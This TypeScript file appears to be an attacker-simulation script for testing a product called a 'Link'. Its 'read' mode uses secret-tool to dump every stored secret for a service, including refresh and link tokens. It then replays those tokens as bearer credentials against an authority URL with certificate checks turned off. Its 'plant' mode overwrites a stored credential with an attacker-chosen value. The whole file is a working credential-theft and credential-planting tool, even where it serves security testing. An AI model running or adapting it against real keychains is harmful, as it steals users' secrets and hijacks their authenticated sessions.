/**
 * The keychain as an attacker of the same user reads it: `secret-tool`, which any process of the
 * user may run against the Secret Service without a prompt. Modes:
 * - `read SERVICE AUTHORITY_URL`: prints every item of the profile's service, and what the embedded
 *   authority answers when the Link token found there is used as the Link's bearer.
 * - `plant SERVICE ITEM VALUE`: stores a plaintext value in the item (a planted credential).
 */
import { spawnSync } from "node:child_process";
import { Agent, fetch } from "undici";

const [mode, service = "", third = "", fourth = ""] = process.argv.slice(2);
const say = (line: unknown): void => void process.stdout.write(`${JSON.stringify(line)}\n`);

/** The items a Link keeps (their names are in its public source). */
const ITEMS = [
  "vault",
  "instance-id",
  "refresh-token",
  "authority-settings",
  "authority-data-key",
  "authority-link-token",
];

/**
 * Every item of `service`, read one by one with `secret-tool lookup`, with its attributes (which
 * secret-tool prints on stderr for `search`), and how many items the service holds in all.
 */
function readItems(): { total: number; items: { item: string; value: string; attributes: Record<string, string> }[] } {
  const all = spawnSync("secret-tool", ["search", "--all", "--unlock", "service", service], { encoding: "utf8" });
  const total = all.stdout.split("\n").filter((l) => l.startsWith("[")).length;
  const items: { item: string; value: string; attributes: Record<string, string> }[] = [];
  for (const item of ITEMS) {
    const found = spawnSync("secret-tool", ["search", "--unlock", "service", service, "username", item], {
      encoding: "utf8",
    });
    const value = /^secret = (.*)$/m.exec(found.stdout)?.[1];
    if (value === undefined) continue;
    const attributes: Record<string, string> = {};
    for (const m of found.stderr.matchAll(/^attribute\.([^ ]+) = (.*)$/gm))
      if (m[1] !== undefined) attributes[m[1]] = m[2] ?? "";
    items.push({ item, value, attributes });
  }
  return { total, items };
}

if (mode === "plant") {
  // The same attributes as the Link's own item, so the planted value replaces it where the Link looks.
  const attributes = readItems().items.find((i) => i.item === third)?.attributes ?? { service, username: third };
  const r = spawnSync("secret-tool", ["store", "--label", `planted ${third}`, ...Object.entries(attributes).flat()], {
    input: fourth,
    encoding: "utf8",
  });
  say({ planted: r.status === 0, stderr: r.stderr.trim() });
} else {
  const { total, items: found } = readItems();
  const items = found.map(({ item, value }) => ({ item, value }));
  const tried: { item: string; route: string; status: number }[] = [];
  // The embedded authority's certificate is self-signed (the Link pins it); an attacker skips the check.
  const dispatcher = new Agent({ connect: { rejectUnauthorized: false } });
  for (const { item, value } of items.filter((i) => i.item === "authority-link-token" || i.item === "refresh-token")) {
    for (const route of ["/v1/secrets", "/v1/requests?status=pending"]) {
      // Status 0: nothing answered at that address.
      const status = await fetch(`${third}${route}`, {
        headers: { authorization: `Bearer ${value}` },
        dispatcher,
      }).then(
        async (res) => (await res.text(), res.status),
        () => 0,
      );
      tried.push({ item, route, status });
    }
  }
  await dispatcher.close();
  say({ total, items, tried });
}
